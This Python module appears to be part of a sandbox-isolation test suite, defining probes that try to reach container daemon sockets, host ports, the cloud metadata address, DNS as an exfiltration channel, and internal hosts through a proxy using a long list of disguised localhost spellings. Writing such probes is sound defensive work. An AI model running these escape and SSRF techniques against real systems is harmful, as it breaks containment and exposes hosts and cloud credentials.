"""Attacks on what lies beyond the sandbox's own loopback."""

from attacks.attack import Attack, Place, Stakes, attack, python

SOCKETS = """
import os, socket, stat, sys
tops = [place for place in sys.argv[1:] if os.path.isdir(place)]
found = [os.path.join(folder, name) for top in tops for folder, _, names in os.walk(top) for name in names]
for place in [*sys.argv[1:], *(place for place in found if stat.S_ISSOCK(os.lstat(place).st_mode))]:
    try:
        there = socket.socket(socket.AF_UNIX)
        there.settimeout(3)
        there.connect(place)
        there.sendall(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n")
        print("WON", place, there.recv(200))
    except OSError as error:
        print(place, error, file=sys.stderr)
"""


@attack("sockets-of-daemons")
async def sockets_of_daemons(place: Place, stakes: Stakes) -> str:
    """Docker's, Podman's, that of our own init, and whatever can be found."""
    return await python(place, SOCKETS, *place.targets["sockets"])


ABSTRACT = """
import socket, sys
there = socket.socket(socket.AF_UNIX)
there.settimeout(3)
there.connect("\\0" + sys.argv[1])
there.sendall(b"anybody there?")
print("WON", there.recv(200))
"""


@attack("abstract-sockets")
async def abstract_sockets(place: Place, stakes: Stakes) -> str:
    return await python(place, ABSTRACT, stakes.abstract)


REACH = """
import os, socket, sys
for place in sys.argv[1:]:
    host, _, port = place.rpartition(":")
    try:
        there = socket.create_connection((host.strip("[]"), int(port)), timeout=3)
        there.sendall(b"GET /latest/meta-data/ HTTP/1.0\\r\\n\\r\\n")
        print("WON", place, there.recv(200))
    except OSError as error:
        print(place, error, file=sys.stderr)
"""


@attack("ports-of-the-host")
async def ports_of_the_host(place: Place, stakes: Stakes) -> str:
    """By every address that a host may have as seen from a sandbox."""
    hosts = [*stakes.addresses, "0.0.0.0", "172.17.0.1", "10.88.0.1", "10.0.2.2", "host.docker.internal"]
    return await python(place, REACH, *(f"{host}:{stakes.port}" for host in hosts))


@attack("metadata-address")
async def metadata_address(place: Place, stakes: Stakes) -> str:
    return await python(place, REACH, *place.targets["metadata"])


DNS = """
import secrets, socket, sys
query = secrets.token_bytes(2) + bytes.fromhex("01000001000000000000")
query += b"\\x09swordfish\\x07example\\x03org\\0\\0\\1\\0\\1"
for place in sys.argv[1:]:
    host, _, port = place.rpartition(":")
    try:
        there = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        there.sendto(query, (host, int(port)))
        print(place, "taken", file=sys.stderr)
    except OSError as error:
        print(place, error, file=sys.stderr)
try:
    print("WON", socket.getaddrinfo("swordfish.example.org", 80)) if sys.argv[1:][1:] else None
except OSError as error:
    print(error, file=sys.stderr)
"""


@attack("names-as-a-way-out")
async def names_as_a_way_out(place: Place, stakes: Stakes) -> str:
    """What is asked of a name server carries anything out."""
    before = len(stakes.seen)
    found = await python(place, DNS, *place.targets["resolvers"])
    heard = b"".join(stakes.seen[before:])
    return found or (f"a server heard {heard!r}" if b"swordfish" in heard else "")


PROXY = """
import socket, sys
world, port = sys.argv[1:3]
spellings = ["127.0.0.1", "localhost", "localhost.", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0.0.0.0", "0",
             "[::1]", "[::ffff:127.0.0.1]", "[::]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "%31%32%37.0.0.1",
             "a.example@127.0.0.1", "a.example#@127.0.0.1", "127.0.0.1%00.a.example", "ip6-localhost", *sys.argv[3:]]
def ask(text):
    there = socket.create_connection(("127.0.0.1", int(world)), timeout=5)
    there.sendall(text.encode("latin-1"))
    said = b""
    while part := there.recv(4096):
        said += part
        if b"swordfish" in said:
            print("WON", text.split("\\r")[0], said)
            break
    print(text.split("\\r")[0], said[:100], file=sys.stderr)
for host in spellings:
    for text in (
        f"GET http://{host}:{port}/ HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n",
        f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: a.example:443\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n",
        f"GET http://a.example/ HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n"
        f"GET http://{host}:{port}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n",
    ):
        try:
            ask(text)
        except OSError as error:
            print(host, error, file=sys.stderr)
"""


@attack("private-addresses-by-the-open-proxy", network="open")
async def private_addresses(place: Place, stakes: Stakes) -> str:
    """Every way to write an address of the host that a careless check of names lets through."""
    return await python(place, PROXY, *place.targets["world"], str(stakes.port), *stakes.addresses[1:])


@attack("hosts-beside-the-list", network="allowlist", hosts=("a.example", "*.b.example"))
async def hosts_beside_the_list(place: Place, stakes: Stakes) -> str:
    return await python(place, PROXY, *place.targets["world"], str(stakes.port), *stakes.addresses[1:])


ATTACKS: tuple[Attack, ...] = (
    sockets_of_daemons,
    abstract_sockets,
    ports_of_the_host,
    metadata_address,
    names_as_a_way_out,
    private_addresses,
    hosts_beside_the_list,
)
